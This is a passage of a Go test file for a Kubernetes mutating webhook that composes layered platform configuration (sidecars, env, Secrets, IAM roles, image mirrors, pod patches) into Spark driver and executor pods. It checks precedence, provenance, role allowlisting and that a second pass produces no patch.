package mutate

import (
	"encoding/json"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/strata-dev/strata/pkg/overlay"
	"github.com/strata-dev/strata/pkg/overlay/v1alpha1"
	"github.com/strata-dev/strata/test/fixtures"
)

// snapshotOf compiles layers written as YAML specs, keyed by name.
func snapshotOf(t *testing.T, specs map[string]string) *overlay.Snapshot {
	t.Helper()
	return fixtures.SnapshotOf(t, specs)
}

// executorPod is a Spark executor with one user sidecar, env, volume and mount.
func executorPod() *corev1.Pod {
	return &corev1.Pod{
		TypeMeta:   metav1.TypeMeta{APIVersion: "v1", Kind: "Pod"},
		ObjectMeta: metav1.ObjectMeta{Name: "exec-1", Namespace: "etl", Labels: map[string]string{v1alpha1.RoleLabel: "executor"}},
		Spec: corev1.PodSpec{
			Containers: []corev1.Container{
				{Name: "user-proxy", Image: "envoyproxy/envoy:v1.31"},
				{Name: executorContainer, Image: "apache/spark:3.5.3",
					Env:          []corev1.EnvVar{{Name: "SPARK_USER", Value: "bot"}, {Name: "LOG_LEVEL", Value: "debug"}},
					VolumeMounts: []corev1.VolumeMount{{Name: "local", MountPath: "/var/data"}}},
			},
			Volumes: []corev1.Volume{{Name: "local", VolumeSource: corev1.VolumeSource{EmptyDir: &corev1.EmptyDirVolumeSource{}}}},
		},
	}
}

func composeOK(t *testing.T, snap *overlay.Snapshot, pod *corev1.Pod) *Result {
	t.Helper()
	res, err := Compose(snap, cluster, pod)
	if err != nil {
		t.Fatal(err)
	}
	assertPatchApplies(t, pod, res)
	again, err := Compose(snap, cluster, res.Pod)
	if err != nil {
		t.Fatal(err)
	}
	if len(again.Patch) != 0 {
		t.Fatalf("second pass: patch %v", again.Patch)
	}
	// A second pass may repeat a warning (the user's request still loses);
	// it never adds one. The API server shows a repeated warning once.
	for _, w := range again.Warnings {
		if !slices.Contains(res.Warnings, w) {
			t.Fatalf("second pass added warning %q", w)
		}
	}
	return res
}

func container(pod *corev1.Pod, name string) (*corev1.Container, string) {
	for i := range pod.Spec.InitContainers {
		if pod.Spec.InitContainers[i].Name == name {
			return &pod.Spec.InitContainers[i], "init"
		}
	}
	for i := range pod.Spec.Containers {
		if pod.Spec.Containers[i].Name == name {
			return &pod.Spec.Containers[i], "main"
		}
	}
	return nil, ""
}

func TestSidecarsAreNativeByDefault(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {
			sidecars: [{name: log-shipper, image: "fluent/fluent-bit:3.1"}],
			initContainers: [{name: fetch-jars, image: "busybox:1.36", command: [sh, -c, "true"]}]},
			executor: {sidecars: [{name: metrics, image: "prom/statsd-exporter:v0.27"}]}}`,
	})
	pod := executorPod()
	res := composeOK(t, snap, pod)
	var names []string
	for _, c := range res.Pod.Spec.InitContainers {
		names = append(names, c.Name)
		native := c.RestartPolicy != nil && *c.RestartPolicy == corev1.ContainerRestartPolicyAlways
		if native != (c.Name != "fetch-jars") {
			t.Errorf("%s: restartPolicy %v", c.Name, c.RestartPolicy)
		}
	}
	if want := []string{"fetch-jars", "log-shipper", "metrics"}; !reflect.DeepEqual(names, want) {
		t.Errorf("init containers %v, want %v (init containers before native sidecars)", names, want)
	}
	if len(res.Pod.Spec.Containers) != 2 {
		t.Errorf("containers changed: %d", len(res.Pod.Spec.Containers))
	}
	// A later init container is still placed before the sidecars already there.
	snap2 := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {initContainers: [{name: late, image: "busybox:1.36"}]}}`,
	})
	res2 := composeOK(t, snap2, res.Pod)
	if got := res2.Pod.Spec.InitContainers[1].Name; got != "late" {
		t.Errorf("init containers after a second layer set: %v", res2.Pod.Spec.InitContainers)
	}
}

func TestSidecarModeContainer(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {sidecarMode: container, sidecars: [{name: log-shipper, image: "fluent/fluent-bit:3.1"}]}}`,
	})
	res := composeOK(t, snap, executorPod())
	c, where := container(res.Pod, "log-shipper")
	if where != "main" || c.RestartPolicy != nil {
		t.Fatalf("log-shipper in %q with restartPolicy %v, want a regular container", where, c.RestartPolicy)
	}
}

func TestSidecarTiersAndUserContainers(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {sidecars: [{name: user-proxy, image: "default-proxy:1"}, {name: log-shipper, image: "fluent-bit:1"}]}}`,
		"co":   `{tier: ClusterOverrides, config: {sidecars: [{name: log-shipper, image: "fluent-bit:2"}]}}`,
	})
	res := composeOK(t, snap, executorPod())
	if c, where := container(res.Pod, "user-proxy"); where != "main" || c.Image != "envoyproxy/envoy:v1.31" {
		t.Errorf("the user's own container lost to a default: %v in %s", c, where)
	}
	if c, _ := container(res.Pod, "log-shipper"); c == nil || c.Image != "fluent-bit:2" {
		t.Errorf("override did not win: %v", c)
	}
	f, _ := res.Composition.Provenance.Lookup(overlay.ElementKey(overlay.PathSidecars, "log-shipper"))
	if f.Winner.Layer != "co" || len(f.Beaten) != 1 || f.Beaten[0].Source.Layer != "pool" {
		t.Errorf("provenance %+v", f)
	}
	// An override of the user's own container replaces it where it is, and warns.
	snap = snapshotOf(t, map[string]string{
		"no": `{tier: NamespaceOverrides, config: {sidecars: [{name: user-proxy, image: "platform-proxy:2"}]}}`,
	})
	res = composeOK(t, snap, executorPod())
	if c, where := container(res.Pod, "user-proxy"); where != "main" || c.Image != "platform-proxy:2" {
		t.Errorf("override of the user's container: %v in %s", c, where)
	}
	if len(res.Warnings) != 1 || !strings.HasPrefix(res.Warnings[0], "spec.sidecars[user-proxy]") {
		t.Errorf("warnings %q", res.Warnings)
	}
}

func TestSparkContainerEnvVolumesMounts(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {
			env: [{name: LOG_LEVEL, value: info}, {name: TZ, value: UTC}],
			envFrom: [{configMapRef: {name: spark-defaults}}],
			volumes: [{name: local, hostPath: {path: /mnt}}, {name: scratch, emptyDir: {}}],
			volumeMounts: [{name: scratch, mountPath: /scratch}, {name: scratch, mountPath: /var/data}]}}`,
		"no": `{tier: NamespaceOverrides, config: {env: [{name: SPARK_USER, value: etl}]}}`,
	})
	res := composeOK(t, snap, executorPod())
	sc, _ := container(res.Pod, executorContainer)
	env := map[string]string{}
	for _, e := range sc.Env {
		env[e.Name] = e.Value
	}
	if want := map[string]string{"SPARK_USER": "etl", "LOG_LEVEL": "debug", "TZ": "UTC"}; !reflect.DeepEqual(env, want) {
		t.Errorf("env %v, want %v (user beats default, override beats user)", env, want)
	}
	if sc.Env[0].Name != "SPARK_USER" || sc.Env[1].Name != "LOG_LEVEL" {
		t.Errorf("env order changed: %v", sc.Env)
	}
	if len(sc.EnvFrom) != 1 || sc.EnvFrom[0].ConfigMapRef.Name != "spark-defaults" {
		t.Errorf("envFrom %v", sc.EnvFrom)
	}
	if v := res.Pod.Spec.Volumes[0]; v.Name != "local" || v.EmptyDir == nil {
		t.Errorf("user volume lost to a default: %+v", v)
	}
	if len(res.Pod.Spec.Volumes) != 2 {
		t.Errorf("volumes %v", res.Pod.Spec.Volumes)
	}
	mounts := map[string]string{}
	for _, m := range sc.VolumeMounts {
		mounts[m.MountPath] = m.Name
	}
	if want := map[string]string{"/var/data": "local", "/scratch": "scratch"}; !reflect.DeepEqual(mounts, want) {
		t.Errorf("mounts %v, want %v", mounts, want)
	}
	if other, _ := container(res.Pod, "user-proxy"); len(other.Env) != 0 {
		t.Errorf("env leaked into a non-Spark container: %v", other.Env)
	}
	if len(res.Warnings) != 1 || !strings.HasPrefix(res.Warnings[0], `spark.env[SPARK_USER] "bot" overridden`) {
		t.Errorf("warnings %q", res.Warnings)
	}
}

func TestSparkContainerFallsBackToFirst(t *testing.T) {
	snap := snapshotOf(t, map[string]string{"pool": `{tier: PoolDefaults, config: {env: [{name: A, value: "1"}]}}`})
	pod := executorPod()
	pod.Spec.Containers = []corev1.Container{{Name: "main", Image: "x"}, {Name: "other", Image: "y"}}
	res := composeOK(t, snap, pod)
	if len(res.Pod.Spec.Containers[0].Env) != 1 || len(res.Pod.Spec.Containers[1].Env) != 0 {
		t.Errorf("env not on the first container: %+v", res.Pod.Spec.Containers)
	}
}

func TestSecrets(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {
			sidecars: [{name: log-shipper, image: "fluent-bit:3"}],
			secrets: [{secretName: s3-creds, mountPath: /etc/s3, sidecars: [log-shipper]}, {secretName: db, asEnv: true}]}}`,
	})
	res := composeOK(t, snap, executorPod())
	v, ok := find(res.Pod.Spec.Volumes, overlay.VolumeKey, "strata-secret-s3-creds")
	if !ok || v.Secret == nil || v.Secret.SecretName != "s3-creds" {
		t.Fatalf("secret volume %+v", v)
	}
	for _, name := range []string{executorContainer, "log-shipper"} {
		c, _ := container(res.Pod, name)
		m, ok := find(c.VolumeMounts, overlay.VolumeMountKey, "/etc/s3")
		if !ok || !m.ReadOnly || m.Name != "strata-secret-s3-creds" {
			t.Errorf("%s: secret mount %+v", name, m)
		}
	}
	if c, _ := container(res.Pod, "user-proxy"); len(c.VolumeMounts) != 0 {
		t.Errorf("secret mounted into a container that did not ask: %v", c.VolumeMounts)
	}
	sc, _ := container(res.Pod, executorContainer)
	if len(sc.EnvFrom) != 1 || sc.EnvFrom[0].SecretRef == nil || sc.EnvFrom[0].SecretRef.Name != "db" {
		t.Errorf("secret envFrom %+v", sc.EnvFrom)
	}
	if long := secretVolumeName(strings.Repeat("a", 70)); len(long) > 63 || !strings.HasPrefix(long, secretVolumePrefix) {
		t.Errorf("volume name for a long secret name: %q", long)
	}

	// The sidecars named are the layers': a container of the user's that
	// has the name of a sidecar the pod does not get (an executors'
	// sidecar, on a driver) gets no mount; it would be the user's
	// container holding the platform's Secret, or a mount path taken twice.
	snap = snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {secrets: [{secretName: metrics-creds, mountPath: /etc/metrics, sidecars: [metrics]}]},
			executor: {sidecars: [{name: metrics, image: "exporter:1"}]}}`,
	})
	driver := executorPod()
	driver.Labels[v1alpha1.RoleLabel] = "driver"
	driver.Spec.Containers[1].Name = driverContainer
	driver.Spec.Containers[0].Name = "metrics" // the user's
	driver.Spec.Containers[0].VolumeMounts = []corev1.VolumeMount{{Name: "local", MountPath: "/etc/metrics"}}
	res = composeOK(t, snap, driver)
	if c, _ := container(res.Pod, "metrics"); len(c.VolumeMounts) != 1 || c.VolumeMounts[0].Name != "local" {
		t.Errorf("a user's container named as a layer's sidecar: mounts %v", c.VolumeMounts)
	}
	for _, pod := range []*corev1.Pod{driver, executorPod()} { // the webhook's path, with less provenance
		composed := composeOK(t, snap, pod)
		admitted, err := Admit(snap, cluster, pod)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(composed.Pod, admitted.Pod) {
			t.Errorf("%s: Admit composes the Secrets otherwise than Compose", pod.Labels[v1alpha1.RoleLabel])
		}
	}
	if c, _ := container(res.Pod, driverContainer); !slices.ContainsFunc(c.VolumeMounts, func(m corev1.VolumeMount) bool { return m.MountPath == "/etc/metrics" }) {
		t.Errorf("the driver's Spark container lacks the Secret: %v", c.VolumeMounts)
	}
	res = composeOK(t, snap, executorPod())
	if c, _ := container(res.Pod, "metrics"); c == nil || !slices.ContainsFunc(c.VolumeMounts, func(m corev1.VolumeMount) bool { return m.MountPath == "/etc/metrics" }) {
		t.Errorf("the executors' sidecar lacks the Secret: %+v", c)
	}
}

func TestIAMAnnotationMode(t *testing.T) {
	const tenant = "arn:aws:iam::123456789012:role/etl"
	snap := snapshotOf(t, map[string]string{
		"cd": `{tier: ClusterDefaults, config: {iam: {role: "arn:aws:iam::123456789012:role/default"}}}`,
		"no": `{tier: NamespaceOverrides, config: {iam: {role: "` + tenant + `", mode: annotation}}}`,
	})
	pod := executorPod()
	pod.Annotations = map[string]string{v1alpha1.IAMRoleAnnotation: "arn:aws:iam::123456789012:role/mine"}
	res := composeOK(t, snap, pod)
	if got := res.Pod.Annotations[IAMRoleAnnotation]; got != tenant {
		t.Errorf("iam annotation %q, want %q", got, tenant)
	}
	f, _ := res.Composition.Provenance.Lookup(overlay.SubKey(overlay.PathIAM, "role"))
	if f.Winner.Layer != "no" || len(f.Beaten) != 2 || !f.Beaten[1].Source.IsUser() {
		t.Errorf("iam.role provenance %+v (want the user's request beaten by the override)", f)
	}
	// Without an override, the user's request beats the default, when an
	// allowlist in force allows it...
	snap = snapshotOf(t, map[string]string{"cd": `{tier: ClusterDefaults, config: {iam: {role: "arn:aws:iam::123456789012:role/default"},
		isolation: {allowedIAMRoles: ["arn:aws:iam::123456789012:role/*"]}}}`})
	res = composeOK(t, snap, pod)
	if got := res.Pod.Annotations[IAMRoleAnnotation]; got != "arn:aws:iam::123456789012:role/mine" {
		t.Errorf("user's requested role lost to a default: %q", got)
	}
	// ...and is never written when none does: not with no allowlist, not
	// with one that does not match.
	for name, iso := range map[string]string{"no allowlist": "", "another account": `, isolation: {allowedIAMRoles: ["arn:aws:iam::999999999999:role/*"]}`} {
		snap = snapshotOf(t, map[string]string{"cd": `{tier: ClusterDefaults, config: {iam: {role: "arn:aws:iam::123456789012:role/default"}` + iso + `}}`})
		res = composeOK(t, snap, pod)
		if got, ok := res.Pod.Annotations[IAMRoleAnnotation]; ok {
			t.Errorf("%s: Strata wrote the tenant's ungranted role: %q", name, got)
		}
		if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0], "not granted") {
			t.Errorf("%s: warnings %q, want one saying the role is not granted", name, res.Warnings)
		}
	}
}

// TestIAMRoleAllowedAgreesWithRego holds the Go glob the mutating webhook
// grants roles with to the semantics the isolation policy documents.
func TestIAMRoleAllowed(t *testing.T) {
	tests := []struct {
		globs []string
		role  string
		want  bool
	}{
		{[]string{"arn:aws:iam::1:role/etl-*"}, "arn:aws:iam::1:role/etl-nightly", true},
		{[]string{"arn:aws:iam::1:role/*"}, "arn:aws:iam::1:role/team/other", false},
		{[]string{"arn:aws:iam::1:role/**"}, "arn:aws:iam::1:role/team/other", true},
		{[]string{"**"}, "arn:aws:iam::2:role/x", true},
		{[]string{"arn:aws:iam::*:role/x"}, "arn:aws:iam::2:role/x", true},
		{[]string{"arn:aws:iam::*:role/x"}, "arn:aws:iam::2:3:role/x", false},
		{nil, "arn:aws:iam::1:role/x", false},
		{[]string{"[unclosed"}, "[unclosed", false},
	}
	for _, tt := range tests {
		if got := IAMRoleAllowed(tt.globs, tt.role); got != tt.want {
			t.Errorf("IAMRoleAllowed(%q, %q) = %v, want %v", tt.globs, tt.role, got, tt.want)
		}
	}
}

func TestIAMIRSAMode(t *testing.T) {
	const role = "arn:aws:iam::123456789012:role/geo"
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {sidecars: [{name: log-shipper, image: "fluent-bit:3"}], initContainers: [{name: init, image: busybox}]}}`,
		"no":   `{tier: NamespaceOverrides, config: {iam: {role: "` + role + `", mode: irsa}}}`,
	})
	res := composeOK(t, snap, executorPod())
	v, ok := find(res.Pod.Spec.Volumes, overlay.VolumeKey, irsaVolume)
	if !ok || v.Projected == nil || v.Projected.Sources[0].ServiceAccountToken.Audience != irsaAudience {
		t.Fatalf("projected token volume %+v", v)
	}
	if _, ok := res.Pod.Annotations[IAMRoleAnnotation]; ok {
		t.Error("irsa mode also set the KIAM annotation")
	}
	forEachContainer(res.Pod, func(c *corev1.Container) {
		env := map[string]string{}
		for _, e := range c.Env {
			env[e.Name] = e.Value
		}
		if env["AWS_ROLE_ARN"] != role || env["AWS_WEB_IDENTITY_TOKEN_FILE"] != irsaMountPath+"/token" || env["AWS_STS_REGIONAL_ENDPOINTS"] != "regional" {
			t.Errorf("%s: IRSA env %v", c.Name, env)
		}
		if m, ok := find(c.VolumeMounts, overlay.VolumeMountKey, irsaMountPath); !ok || !m.ReadOnly || m.Name != irsaVolume {
			t.Errorf("%s: token mount %+v", c.Name, m)
		}
	})
}

// TestIRSARoleIsPinned: the composed role is the only AWS_ROLE_ARN of each
// container, a literal: a tenant's duplicate entries (the kubelet takes
// the last) and values read at container start (valueFrom) are replaced,
// and a literal env entry wins over envFrom.
func TestIRSARoleIsPinned(t *testing.T) {
	const role = "arn:aws:iam::123456789012:role/geo"
	snap := snapshotOf(t, map[string]string{
		"no": `{tier: NamespaceOverrides, config: {iam: {role: "` + role + `", mode: irsa}}}`,
	})
	pod := executorPod()
	spark := &pod.Spec.Containers[1]
	fromOther := &corev1.EnvVarSource{ConfigMapKeyRef: &corev1.ConfigMapKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "roles"}, Key: "other"}}
	spark.Env = append(spark.Env, corev1.EnvVar{Name: "AWS_ROLE_ARN", Value: "arn:aws:iam::999999999999:role/other"},
		corev1.EnvVar{Name: "AWS_ROLE_ARN", ValueFrom: fromOther})
	spark.EnvFrom = []corev1.EnvFromSource{{ConfigMapRef: &corev1.ConfigMapEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "roles"}}}}
	pod.Spec.Containers[0].Env = []corev1.EnvVar{{Name: "AWS_ROLE_ARN", ValueFrom: fromOther}}
	res := composeOK(t, snap, pod)
	forEachContainer(res.Pod, func(c *corev1.Container) {
		var roles []corev1.EnvVar
		for _, e := range c.Env {
			if e.Name == "AWS_ROLE_ARN" {
				roles = append(roles, e)
			}
		}
		if len(roles) != 1 || roles[0].Value != role || roles[0].ValueFrom != nil {
			t.Errorf("%s: AWS_ROLE_ARN entries %+v, want the one literal %s", c.Name, roles, role)
		}
	})
}

func TestImageMirrors(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {
			sidecars: [{name: log-shipper, image: "fluent/fluent-bit:3.1"}],
			volumes: [{name: models, image: {reference: "quay.io/team/models:2"}}],
			imageMirrors: [{from: docker.io, to: mirror.internal/hub}, {from: docker.io/apache, to: mirror.internal/apache}, {from: quay.io, to: mirror.internal/quay}]}}`,
	})
	pod := executorPod()
	pod.Spec.Containers = append(pod.Spec.Containers, corev1.Container{Name: "gcr", Image: "gcr.io/x/y:1"}, corev1.Container{Name: "nginx", Image: "nginx"})
	// Image volumes are pulled as images are.
	imageVolume := func(name, reference string) corev1.Volume {
		return corev1.Volume{Name: name, VolumeSource: corev1.VolumeSource{Image: &corev1.ImageVolumeSource{Reference: reference}}}
	}
	pod.Spec.Volumes = append(pod.Spec.Volumes, imageVolume("tools", "busybox:1.36"), imageVolume("gcr-data", "gcr.io/x/data:1"))
	res := composeOK(t, snap, pod)
	for name, want := range map[string]string{
		"tools":    "mirror.internal/hub/library/busybox:1.36",
		"gcr-data": "gcr.io/x/data:1",
		"models":   "mirror.internal/quay/team/models:2",
	} {
		if v, ok := find(res.Pod.Spec.Volumes, overlay.VolumeKey, name); !ok || v.Image == nil || v.Image.Reference != want {
			t.Errorf("volume %s: %+v, want the image %s", name, v, want)
		}
	}
	f, ok := res.Composition.Provenance.Lookup(overlay.ElementKey(overlay.PathVolumes, "tools").WithSub("image.reference"))
	if !ok || f.Winner.Layer != "pool" || f.Beaten[0].Value != `"busybox:1.36"` || !f.Beaten[0].Source.IsUser() {
		t.Errorf("a volume's mirror provenance %+v", f)
	}
	if f, _ := res.Composition.Provenance.Lookup(overlay.ElementKey(overlay.PathVolumes, "models").WithSub("image.reference")); len(f.Beaten) == 0 || f.Beaten[0].Source.Layer != "pool" {
		t.Errorf("a layer's volume is attributed to %+v", f)
	}
	want := map[string]string{
		executorContainer: "mirror.internal/apache/spark:3.5.3",         // longest prefix wins
		"user-proxy":      "mirror.internal/hub/envoyproxy/envoy:v1.31", // no registry means docker.io
		"log-shipper":     "mirror.internal/hub/fluent/fluent-bit:3.1",
		"nginx":           "mirror.internal/hub/library/nginx", // docker.io/library
		"gcr":             "gcr.io/x/y:1",                      // no mirror: unchanged
	}
	for name, image := range want {
		if c, _ := container(res.Pod, name); c == nil || c.Image != image {
			t.Errorf("%s: image %v, want %s", name, c, image)
		}
	}
	f, ok = res.Composition.Provenance.Lookup(overlay.ElementKey("spec.containers", executorContainer).WithSub("image"))
	if !ok || f.Winner.Layer != "pool" || f.Beaten[0].Value != `"apache/spark:3.5.3"` || !f.Beaten[0].Source.IsUser() {
		t.Errorf("mirror provenance %+v", f)
	}
	f, _ = res.Composition.Provenance.Lookup(overlay.ElementKey("spec.initContainers", "log-shipper").WithSub("image"))
	if f.Beaten[0].Source.Layer != "pool" {
		t.Errorf("a layer's sidecar is attributed to %v", f.Beaten[0].Source)
	}
	if len(res.Warnings) != 4 {
		t.Errorf("warnings %q, want one per user image mirrored (four)", res.Warnings)
	}
}

func TestNormalizeAndMirrorImage(t *testing.T) {
	for in, want := range map[string]string{
		"nginx":                             "docker.io/library/nginx",
		"nginx:1.27":                        "docker.io/library/nginx:1.27",
		"apache/spark:3.5.3":                "docker.io/apache/spark:3.5.3",
		"docker.io/apache/spark":            "docker.io/apache/spark",
		"index.docker.io/library/nginx":     "docker.io/library/nginx",
		"index.docker.io/nginx":             "docker.io/library/nginx",
		"localhost/x":                       "localhost/x",
		"localhost:5000/x":                  "localhost:5000/x",
		"registry.k8s.io/pause:3.10":        "registry.k8s.io/pause:3.10",
		"apache/spark@sha256:0123456789abc": "docker.io/apache/spark@sha256:0123456789abc",
		"docker.io/nginx:1.27":              "docker.io/library/nginx:1.27", // an official image, however written
		"Registry/team/x":                   "Registry/team/x",              // an upper-case first component is a registry
	} {
		if got := NormalizeImage(in); got != want {
			t.Errorf("NormalizeImage(%q) = %q, want %q", in, got, want)
		}
	}
	// An official image written with its registry goes to the library's
	// mirror, as it does written without.
	library := []v1alpha1.ImageMirror{{From: "docker.io", To: "m.internal/hub"}, {From: "docker.io/library", To: "m.internal/lib"}}
	for _, in := range []string{"nginx:1", "docker.io/nginx:1", "index.docker.io/nginx:1", "docker.io/library/nginx:1"} {
		if got, _ := MirrorImage(in, library); got != "m.internal/lib/nginx:1" {
			t.Errorf("MirrorImage(%q) = %q, want m.internal/lib/nginx:1", in, got)
		}
	}
	// A from written as images are, without docker.io, is on Docker Hub:
	// apache stands for docker.io/apache and index.docker.io for docker.io.
	familiar := []v1alpha1.ImageMirror{{From: "apache", To: "m.internal/apache"}, {From: "index.docker.io", To: "m.internal/hub"}}
	for in, want := range map[string]string{
		"apache/spark:3.5":            "m.internal/apache/spark:3.5",
		"docker.io/apache/spark":      "m.internal/apache/spark",
		"apache:1":                    "m.internal/apache:1", // docker.io/library/apache:1
		"apache:5000/x":               "apache:5000/x",       // the registry apache:5000
		"busybox":                     "m.internal/hub/library/busybox",
		"m.internal/apache/spark:3.5": "m.internal/apache/spark:3.5",
	} {
		if got, _ := MirrorImage(in, familiar); got != want {
			t.Errorf("MirrorImage(%q) = %q, want %q", in, got, want)
		}
	}
	mirrors := []v1alpha1.ImageMirror{{From: "docker.io/apache", To: "m.internal/apache"}, {From: "m.internal", To: "docker.io"}}
	for in, want := range map[string]string{
		"docker.io/apachefoo/x": "docker.io/apachefoo/x", // under the to docker.io, and no longer from
		"apache/spark":          "m.internal/apache/spark",
		"m.internal/apache/x":   "m.internal/apache/x", // already mirrored: chains do not flip back and forth
		"m.internal/other/x":    "docker.io/other/x",
	} {
		if got, _ := MirrorImage(in, mirrors); got != want {
			t.Errorf("MirrorImage(%q) = %q, want %q", in, got, want)
		}
	}
	// An image under one mirror's target and another's source, equally
	// specific: already mirrored, left as it is.
	chained := []v1alpha1.ImageMirror{{From: "a.example", To: "b.example"}, {From: "b.example", To: "c.example"}}
	if got, _ := MirrorImage("b.example/x", chained); got != "b.example/x" {
		t.Errorf("a mirror's target, as specific as another's source: %q", got)
	}
	only := []v1alpha1.ImageMirror{{From: "docker.io/apache", To: "m.internal/apache"}}
	if got, _ := MirrorImage("apachefoo/x", only); got != "apachefoo/x" {
		t.Errorf("a prefix matched inside a path component: %q", got)
	}
	// Registries as they are usually written, with a trailing "/".
	slashed := []v1alpha1.ImageMirror{{From: "docker.io/", To: "mirror.internal/dockerhub/"}}
	for in, want := range map[string]string{
		"apache/spark:3.5.3":                 "mirror.internal/dockerhub/apache/spark:3.5.3",
		"nginx":                              "mirror.internal/dockerhub/library/nginx",
		"mirror.internal/dockerhub/x/y:1":    "mirror.internal/dockerhub/x/y:1",
		"docker.io.evil.example.com/x/y:1.0": "docker.io.evil.example.com/x/y:1.0",
	} {
		got, _ := MirrorImage(in, slashed)
		if got != want {
			t.Errorf("with a trailing /: MirrorImage(%q) = %q, want %q", in, got, want)
		}
		if again, _ := MirrorImage(got, slashed); again != got {
			t.Errorf("with a trailing /: mirroring %q again gave %q", got, again)
		}
	}
}

func TestPodPatch(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {podPatch: {spec: {dnsPolicy: None, dnsConfig: {nameservers: [10.0.0.10]}}}}}`,
		"no": `{tier: NamespaceOverrides, executor: {podPatch: {spec: {dnsConfig: {nameservers: [10.0.0.53]},
			containers: [{name: spark-kubernetes-executor, securityContext: {runAsNonRoot: true}}]}}}}`,
	})
	res := composeOK(t, snap, executorPod())
	if res.Pod.Spec.DNSPolicy != corev1.DNSNone || !slices.Equal(res.Pod.Spec.DNSConfig.Nameservers, []string{"10.0.0.53"}) {
		t.Errorf("dns %v %+v: patches not applied in order", res.Pod.Spec.DNSPolicy, res.Pod.Spec.DNSConfig)
	}
	sc, _ := container(res.Pod, executorContainer)
	if sc.SecurityContext == nil || sc.SecurityContext.RunAsNonRoot == nil || sc.Image != "apache/spark:3.5.3" {
		t.Errorf("strategic merge by container name failed: %+v", sc)
	}
	var got []string
	for _, f := range res.Composition.Provenance.Fields() {
		if strings.HasPrefix(f.Path, overlay.PathPodPatch) {
			got = append(got, f.Path)
		}
	}
	if want := []string{`podPatch[NamespaceOverrides layer "no"]`, `podPatch[PoolDefaults layer "pool"]`}; !reflect.DeepEqual(got, want) {
		t.Errorf("podPatch provenance %v", got)
	}
}

func TestInjectionPatchIsValidJSONPatch(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {
			sidecars: [{name: log-shipper, image: "fluent/fluent-bit:3.1"}],
			env: [{name: A, value: "1"}], volumes: [{name: v, emptyDir: {}}], volumeMounts: [{name: v, mountPath: /v}],
			secrets: [{secretName: s, mountPath: /s}], iam: {role: "arn:aws:iam::123456789012:role/r", mode: irsa},
			imageMirrors: [{from: docker.io, to: mirror.internal}]}}`,
	})
	res := composeOK(t, snap, executorPod())
	ops, _ := json.Marshal(res.Patch)
	for _, path := range []string{"/spec/initContainers", "/spec/volumes/1", `"/spec/containers/1/env/2"`} {
		if !strings.Contains(string(ops), strings.Trim(path, `"`)) {
			t.Errorf("patch lacks %s: %s", path, ops)
		}
	}
}

// TestSecondPassAfterAPIServerDefaulting composes, fills in what the API
// server defaults in injected objects, and composes again: nothing changes.
func TestSecondPassAfterAPIServerDefaulting(t *testing.T) {
	snap := snapshotOf(t, map[string]string{
		"pool": `{tier: PoolDefaults, config: {sidecars: [{name: log-shipper, image: "fluent-bit:3", ports: [{containerPort: 2020}]}],
			env: [{name: POD_IP, valueFrom: {fieldRef: {fieldPath: status.podIP}}}],
			secrets: [{secretName: s, mountPath: /s}], iam: {role: "arn:aws:iam::123456789012:role/r", mode: irsa}}}`,
		"co": `{tier: ClusterOverrides, config: {sidecars: [{name: metrics, image: "statsd:1", args: [--flush]}],
			env: [{name: NODE_NAME, valueFrom: {fieldRef: {fieldPath: spec.nodeName}}}],
			volumes: [{name: cache, configMap: {name: cache}}]}}`,
	})
	res := composeOK(t, snap, executorPod())
	stored := res.Pod.DeepCopy()
	mode := int32(420)
	for i := range stored.Spec.Volumes {
		if v := &stored.Spec.Volumes[i]; v.Secret != nil {
			v.Secret.DefaultMode = &mode
		} else if v.Projected != nil {
			v.Projected.DefaultMode = &mode
		}
	}
	forEachContainer(stored, func(c *corev1.Container) {
		c.ImagePullPolicy, c.TerminationMessagePath, c.TerminationMessagePolicy = corev1.PullIfNotPresent, "/dev/termination-log", corev1.TerminationMessageReadFile
		for j := range c.Ports {
			c.Ports[j].Protocol = corev1.ProtocolTCP
		}
		for j := range c.Env {
			if c.Env[j].ValueFrom != nil && c.Env[j].ValueFrom.FieldRef != nil {
				c.Env[j].ValueFrom.FieldRef.APIVersion = "v1"
			}
		}
	})
	again, err := Compose(snap, cluster, stored)
	if err != nil {
		t.Fatal(err)
	}
	if len(again.Patch) != 0 {
		t.Fatalf("composing the stored pod: patch %v", again.Patch)
	}
	// But an override that really differs still replaces the element.
	changed := stored.DeepCopy()
	c, _ := container(changed, "metrics")
	c.Image = "statsd:0-user"
	again, err = Compose(snap, cluster, changed)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := container(again.Pod, "metrics"); got.Image != "statsd:1" {
		t.Fatalf("override lost to a differing user container: %s", got.Image)
	}
	// So does one whose list holds more than the override's, and a
	// volume that differs from the override's.
	longer := stored.DeepCopy()
	c, _ = container(longer, "metrics")
	c.Args = append(c.Args, "--evil")
	for i := range longer.Spec.Volumes {
		if v := &longer.Spec.Volumes[i]; v.Name == "cache" {
			v.ConfigMap.Name = "someone-elses"
		}
	}
	again, err = Compose(snap, cluster, longer)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := container(again.Pod, "metrics"); !slices.Equal(got.Args, []string{"--flush"}) {
		t.Fatalf("override lost to a user container with more args: %q", got.Args)
	}
	for _, v := range again.Pod.Spec.Volumes {
		if v.Name == "cache" && (v.ConfigMap == nil || v.ConfigMap.Name != "cache") {
			t.Fatalf("override lost to a differing user volume: %+v", v)
		}
	}
